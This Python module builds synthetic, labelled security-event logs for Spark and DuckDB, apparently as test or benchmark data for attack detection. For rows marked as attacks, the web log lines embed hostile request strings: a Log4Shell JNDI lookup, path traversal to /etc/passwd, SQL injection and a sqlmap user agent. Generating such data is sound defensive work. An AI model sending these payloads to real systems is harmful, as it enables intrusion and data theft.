"""The adapter view: labelled security events made from the generic `events` table, written alike for Spark and DuckDB."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F


def _columns(duck: bool) -> list[tuple[str, str]]:
    div = (lambda a, b: f"({a} // {b})") if duck else (lambda a, b: f"({a} div {b})")
    iso = "strftime(ts, '%Y-%m-%dT%H:%M:%S')" if duck else "date_format(ts, \"yyyy-MM-dd'T'HH:mm:ss\")"
    web = "strftime(ts, '%d/%b/%Y:%H:%M:%S')" if duck else "date_format(ts, 'dd/MMM/yyyy:HH:mm:ss')"
    err = "strftime(ts, '%a %b %d %H:%M:%S') || '.000000 ' || strftime(ts, '%Y')" if duck else "date_format(ts, 'EEE MMM dd HH:mm:ss') || '.000000 ' || date_format(ts, 'yyyy')"
    day = "strftime(ts, '%Y-%m-%d')" if duck else "date_format(ts, 'yyyy-MM-dd')"
    us = "epoch_us(ts)" if duck else "timestampdiff(MICROSECOND, timestamp_ntz'1970-01-01', ts)"
    s = lambda x: f"cast({x} as string)"
    ip = f"'10.' || {s(div('user_id', '65536'))} || '.' || {s(div('user_id', '256') + ' % 256')} || '.' || {s('user_id % 256')}"
    bad = "event_type = 'error'"
    source = (
        "case when event_type = 'signup' then case event_id % 3 when 0 then 'auth_log' when 1 then 'syslog' else 'journal' end "
        "when event_type = 'purchase' then case event_id % 3 when 1 then 'web_error' else 'web_access' end "
        "when event_type = 'view' then case event_id % 3 when 0 then 'ebpf_process' when 1 then 'ebpf_network' else 'ebpf_file' end "
        "when event_type = 'click' then case event_id % 3 when 0 then 'web_access' when 1 then 'ebpf_network' else 'auth_log' end "
        "else case event_id % 3 when 0 then 'auth_log' when 1 then 'web_access' else 'ebpf_process' end end"
    )
    port = s("40000 + event_id % 20000")
    user = f"'user' || {s('user_id')}"
    auth = (
        f"{iso} || '+00:00 host' || {s('user_id % 7')} || ' sshd[' || {s('1000 + user_id % 50')} || ']: ' || case when {bad} then case event_id % 2 when 0 then 'Failed password for invalid user ' || {user} || ' from ' || {ip} || ' port ' || {port} || ' ssh2' "
        f"else 'Invalid user ' || {user} || ' from ' || {ip} || ' port ' || {port} end when event_id % 5 = 0 then 'pam_unix(sshd:session): session opened for user ' || {user} || ' by (uid=0)' when event_id % 5 = 1 then 'Connection closed by ' || {ip} || ' port ' || {port} || ' [preauth]' "
        f"else 'Accepted password for ' || {user} || ' from ' || {ip} || ' port ' || {port} || ' ssh2' end"
    )
    access = (
        f"{ip} || ' - ' || case event_id % 4 when 0 then {user} else '-' end || ' [' || {web} || ' +0000] \"GET ' || case when {bad} then case event_id % 4 when 0 then '/?q=${{jndi:ldap://x}}' when 1 then '/a/../../etc/passwd' when 2 then '/p?id=1+UNION+SELECT+1' else '/wp-login.php' end else '/item/' || {s('event_id')} end || ' HTTP/1.1\" ' || "
        f"case when {bad} then '404' else '200' end || ' ' || {s('event_id % 5000')} || ' \"-\" \"' || case when {bad} and event_id % 5 = 0 then 'sqlmap/1.0' else 'Mozilla/5.0' end || '\"'"
    ).replace("{{", "{").replace("}}", "}")
    error = f"'[' || {err} || '] [core:error] [pid ' || {s('user_id % 900 + 100')} || '] ' || case when event_id % 2 = 0 then '[client ' || {ip} || ':' || {port} || '] ' else '' end || 'File does not exist: /item/' || {s('event_id')}"
    process = f"{iso} || '.5Z execve pid=' || {s('user_id + 2')} || ' ppid=' || {s('(user_id * 7 + event_id) % 150')} || ' uid=' || {s('user_id % 3')} || ' comm=' || case when {bad} then 'wget' else 'cron' end || ' parent_comm=' || case when {bad} then 'nginx' else 'systemd' end"
    network = f"{iso} || '.5Z connect pid=' || {s('user_id + 2')} || ' uid=0 comm=sshd src=' || {ip} || ':' || {port} || ' dst=93.184.216.34:443'"
    file = f"{iso} || '.5Z open pid=' || {s('user_id + 2')} || ' uid=0 comm=cron flags=O_WRONLY|O_CREAT path=/var/log/' || {s('event_id % 90')}"
    sys = f"{iso} || 'Z host' || {s('user_id % 7')} || case event_id % 4 when 0 then ' CRON[77]: (root) CMD (run)' when 1 then ' kernel: oom' when 2 then ' systemd[1]: Started Daily job.' else ' sudo: ' || {user} || ' : TTY=pts/0' end"
    q = '"'
    journal = f"'{{{q}__REALTIME_TIMESTAMP{q}: {q}' || {s(us)} || '{q}, {q}SYSLOG_IDENTIFIER{q}: {q}' || case event_id % 3 when 0 then 'systemd' when 1 then 'sshd' else 'crond' end || '{q}, {q}MESSAGE{q}: {q}Started job{q}, {q}PRIORITY{q}: {q}' || {s('event_id % 8')} || '{q}}}'"
    line = f"case source when 'auth_log' then {auth} when 'web_access' then {access} when 'web_error' then {error} when 'ebpf_process' then {process} when 'ebpf_network' then {network} when 'ebpf_file' then {file} when 'syslog' then {sys} else {journal} end"
    return [
        ("id", "event_id"), ("timestamp", "ts"), ("ts_us", us), ("source", source), ("user_id", "user_id"), ("value", "value"), ("kind", "event_type"),
        ("src_ip", f"case when event_id % 11 = 0 then null else {ip} end"),
        ("session_id", f"{s('user_id')} || ':' || {day}"),
        ("username", f"case when event_id % 4 = 0 then null else {user} end"),
        ("event_type", "case event_type when 'signup' then 'auth_success' when 'purchase' then 'http_request' when 'view' then 'connection' when 'click' then 'session_open' else case event_id % 3 when 0 then 'auth_failure' when 1 then 'http_error' else 'exotic' end end"),
        ("is_malicious", f"case when event_id % 97 = 0 then null when {bad} then 1 else 0 end"),
        ("attack_type", f"case when event_id % 97 <> 0 and {bad} then case event_id % 3 when 0 then 'brute_force' when 1 then 'web_exploit' else 'execution' end end"),
        ("attack_stage", f"case when event_id % 97 <> 0 and {bad} then case when value < 100 then 'recon' when value < 200 then 'initial_access' when value < 300 then 'execution' when value < 400 then 'persistence' else 'exfiltration' end end"),
        ("severity", f"case when event_id % 97 <> 0 and {bad} and event_id % 13 <> 0 then cast(event_id % 4 as int) end"),
        ("campaign_id", f"case when {bad} then 'campaign-' || {day} end"),
        ("stream_id", "user_id % 8"), ("parsed", "props"), ("service", "case when event_id % 2 = 0 then 'sshd' end"),
        ("raw_line", line),
    ]


def event_view(spark: SparkSession, sf_dir: str) -> DataFrame:
    base = spark.read.parquet(f"{sf_dir}/events.parquet")
    columns = _columns(duck=False)
    first = base.selectExpr("*", *[f"{e} as {n}" for n, e in columns if n == "source"])
    return first.selectExpr(*[(n if n == "source" else f"{e} as {n}") for n, e in columns])


def event_sql() -> str:
    """The same view as a common table expression `ev`."""
    columns = _columns(duck=True)
    source = dict(columns)["source"]
    return f"ev as (select {', '.join((n if n == 'source' else f'{e} as {n}') for n, e in columns)} from (select *, {source} as source from events))"


def campaigns(spark: SparkSession, sf_dir: str) -> DataFrame:
    """A campaign for each day with attacks but the last-numbered; every third is cut short, every fourth lists other types."""
    ev = event_view(spark, sf_dir).filter("campaign_id is not null and dayofmonth(timestamp) <> 29")
    days = ev.groupBy(F.col("campaign_id").alias("id")).agg(F.expr("date_trunc('day', min(timestamp))").cast("timestamp_ntz").alias("start_time"), F.min(F.dayofmonth("timestamp")).alias("d"))
    return days.select("id", "start_time", F.expr("case when d % 5 = 0 then null when d % 3 = 0 then start_time + interval 12 hours else start_time + interval 24 hours end").alias("end_time"), F.expr("case when d % 4 = 0 then 'web_exploit, execution' else 'brute_force, web_exploit,execution' end").alias("attack_type"))


CAMPAIGN_SQL = """camp as (select campaign_id as id, date_trunc('day', min(timestamp)) as start_time,
  case when min(day(timestamp)) % 5 = 0 then null when min(day(timestamp)) % 3 = 0 then date_trunc('day', min(timestamp)) + interval 12 hours else date_trunc('day', min(timestamp)) + interval 24 hours end as end_time,
  case when min(day(timestamp)) % 4 = 0 then 'web_exploit, execution' else 'brute_force, web_exploit,execution' end as attack_type
  from ev where campaign_id is not null and day(timestamp) <> 29 group by campaign_id)"""
